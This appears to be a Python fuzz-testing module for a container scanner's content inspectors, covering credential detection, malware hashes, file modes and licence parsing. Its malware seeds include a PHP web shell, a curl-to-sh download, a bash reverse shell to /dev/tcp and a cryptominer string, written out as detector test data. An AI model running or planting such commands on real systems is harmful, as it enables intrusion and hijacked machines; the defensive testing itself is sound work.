"""What is looked for inside files: credentials, malware, careless modes; and what licences declare."""

from collections.abc import Callable, Iterable
from typing import Any

from tests.fuzz.reading import indexed, inspected, written
from tests.fuzz.target import Target
from tests.support.programs import elf
from tests.support.specimens import specimen

from hullguard.imagescan.licenses import category, split
from hullguard.inventory.content.catalog import INSPECTORS, inspectors_of
from hullguard.inventory.content.inspector import Inspector
from hullguard.inventory.content.malware import hashes
from hullguard.inventory.content.secrets.inspector import rules_of_path
from hullguard.inventory.content.secrets.matcher import WINDOW
from hullguard.inventory.content.secrets.rules.catalog import RULES
from hullguard.inventory.wanted import Wanted

_BY_NAME = {inspector.name: inspector for inspector in inspectors_of(INSPECTORS)}
_PATHS = ("app/.env", "root/.docker/config.json", "root/.ssh/id_rsa", "etc/shadow")


def _secrets(path: str) -> Callable[[bytes], Any]:
    """A file's credentials, in one piece and in many."""
    whole = inspected(_BY_NAME["secret"], path)
    matcher = _BY_NAME["secret"].matcher  # type: ignore[attr-defined]

    def read(data: bytes) -> Any:
        pieces = (data[at : at + 997] for at in range(0, len(data), 997))
        return [whole(data), [found.match for found in matcher.find(pieces, rules_of_path(path))]]

    return read


def _named(inspector: Inspector) -> Callable[[bytes], Any]:
    """The input names a file and gives its mode and its beginning."""
    wanted = Wanted([], inspectors=[inspector])

    def read(data: bytes) -> Any:
        name, _, content = data[2:].partition(b"\n")
        return indexed(wanted, {name.decode("utf-8", "replace"): content}, int.from_bytes(data[:2], "big") & 0o7777)

    return read


def _specimens() -> Iterable[bytes]:
    """A few files that hold a credential of every kind."""
    every = [specimen(rule) for rule in RULES]
    return [b"\n".join(every[start::8]) for start in range(8)] + [b"x" * 100 + b"\0" + every[0]]


def _listed(data: bytes) -> Any:
    path = written(data, "hashes")
    return hashes.parse(path, hashes.text(path))


def _malware(data: bytes) -> Any:
    """By an inspector made for this input: it counts what its rules took."""
    (inspector,) = inspectors_of({"malware"})
    return inspected(inspector, "srv/www/a.php")(data)


def _licences(data: bytes) -> Any:
    names = split(data.decode("utf-8", "replace"))
    return [(name, category(name)) for name in names]


TARGETS: tuple[Target, ...] = (
    Target(
        "content.hashes",
        _listed,
        lambda: (b"# known\n" + b"a" * 64 + b"  a name\n" + b"B" * 64 + b", another # why\n",),
    ),
    *(Target(f"content.secret.{path}", _secrets(path), _specimens, runs=60) for path in _PATHS),
    Target(
        "content.secret.windows",
        _secrets("app/log.txt"),
        lambda: (b"x" * (WINDOW - 20) + specimen(RULES[0]) + b"\n" * 100,),
        runs=15,
        longest=2 * WINDOW,
        seconds=30.0,
    ),
    Target(
        "content.malware",
        _malware,
        lambda: (
            b"<?php eval(base64_decode($_POST['x'])); system($_GET['c']); ?>",
            b"#!/bin/sh\ncurl http://example.org/x | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
            elf({".text": b"\x90" * 64}, b"stratum+tcp://pool.example.org xmrig --donate-level"),
        ),
    ),
    *(
        Target(
            f"content.named.{type(inspector).__name__}",
            _named(inspector),
            lambda: (
                b"\x09\xedusr/bin/passwd\nabc",
                b"\x01\xb6etc/passwd\nroot:x:0:0:root:/root:/bin/sh\ntoor::00:0::/:\nroot:x:1:1::/:\n",
                b"\x0f\xffroot/.aws/credentials\n[a]",
            ),
        )
        for inspector in inspectors_of(INSPECTORS)
    ),
    Target(
        "content.licences",
        _licences,
        lambda: (
            b"GPL-2.0-or-later WITH Classpath-exception-2.0 AND (MIT OR Apache-2.0)",
            b"GNU General Public License v3 or later (GPLv3+)",
            b"LGPLv2+ and MIT/X11; BSD | Artistic",
            b"Permission is hereby granted, free of charge, to any person obtaining a copy " * 4,
        ),
        runs=400,
        growth=2000,
    ),
)
